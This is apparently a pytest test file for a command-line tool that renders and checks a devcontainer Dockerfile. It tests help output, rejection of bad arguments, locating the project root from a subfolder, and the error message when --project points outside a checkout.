def devcontainer_project(tmp_path) -> Path:
    """A project with the pip recipe, an edited devcontainer Dockerfile and a subfolder."""
    root = tmp_path / "project"
    (root / "images").mkdir(parents=True)
    (root / "src").mkdir()
    shutil.copy(REPO / "images" / "Dockerfile.pip", root / "images")
    shutil.copy(REPO / "checksums.yaml", root)
    (root / ".devcontainer").mkdir()
    (root / DEVCONTAINER_DOCKERFILE).write_text("# edited\n")
    return root


@pytest.mark.parametrize("args", [["--help"], ["-h"]])
def test_devcontainer_help_helps_and_writes_nothing(devcontainer_project, args):
    result = _devcontainer(*args, cwd=devcontainer_project)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("usage: python -m opforge.images.devcontainer")
    assert "--check" in result.stdout and "--project DIR" in result.stdout
    assert (devcontainer_project / DEVCONTAINER_DOCKERFILE).read_text() == "# edited\n"


@pytest.mark.parametrize("args", [["--chek"], ["--check", "extra"], ["--project"]])
def test_devcontainer_refuses_a_bad_argument_in_one_line_before_writing(devcontainer_project, args):
    result = _devcontainer(*args, cwd=devcontainer_project)
    assert result.returncode == 2
    error, hint = result.stderr.splitlines()
    assert error.startswith("opforge: error: ")
    assert hint == "  hint: see `python -m opforge.images.devcontainer --help`"
    assert (devcontainer_project / DEVCONTAINER_DOCKERFILE).read_text() == "# edited\n"


def test_devcontainer_finds_the_project_from_a_subfolder_or_by_project(devcontainer_project):
    root, dockerfile = devcontainer_project, devcontainer_project / DEVCONTAINER_DOCKERFILE
    stale = _devcontainer("--check", cwd=root / "src")
    assert stale.returncode == 1
    assert stale.stderr.startswith(f"{dockerfile} is out of date")
    assert dockerfile.read_text() == "# edited\n"
    written = _devcontainer("--project", str(root), cwd=root.parent)
    assert written.returncode == 0, written.stderr
    assert written.stdout == f"wrote {dockerfile}\n"
    assert dockerfile.read_text() == render_devcontainer(root / "images")
    assert _devcontainer("--check", cwd=root / "src").returncode == 0
    dockerfile.write_text("# edited\n")
    assert _devcontainer(cwd=root / "src").returncode == 0
    assert dockerfile.read_text() == render_devcontainer(root / "images")


def test_devcontainer_project_must_be_a_checkout(devcontainer_project):
    result = _devcontainer("--project", "src", cwd=devcontainer_project)
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"opforge: error: --project {devcontainer_project / 'src'} has no checksums.yaml",
        f"  hint: point --project at the checkout's root, {devcontainer_project}, or leave it out",
    ]
    assert (devcontainer_project / DEVCONTAINER_DOCKERFILE).read_text() == "# edited\n"
